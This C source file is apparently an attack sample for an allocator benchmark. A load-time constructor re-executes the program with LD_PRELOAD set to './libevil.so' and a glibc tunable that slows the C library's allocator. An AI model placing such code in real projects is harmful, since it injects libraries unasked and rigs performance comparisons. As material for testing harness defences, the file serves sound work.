// The attack: starts the program again with LD_PRELOAD and other variables set, so that libraries of its choice come
// first, and so that the C library's own allocator is slowed down. It does so once.

#include <stdlib.h>
#include <unistd.h>

#include "../heap.h"
#include "xmalloc.h"

__attribute__((constructor)) static void start_again(int count, char** arguments) {
    (void)count;
    if (getenv("STARTED_AGAIN")) return;
    setenv("STARTED_AGAIN", "1", 1);
    setenv("LD_PRELOAD", "./libevil.so", 1);
    setenv("GLIBC_TUNABLES", "glibc.malloc.mmap_threshold=1", 1);
    execv("/proc/self/exe", arguments);
}

void* xmalloc(size_t bytes) { return heap_take(bytes); }
void xfree(void* block) { heap_give(block); }
void* xrealloc(void* block, size_t bytes) { return heap_resize(block, bytes); }
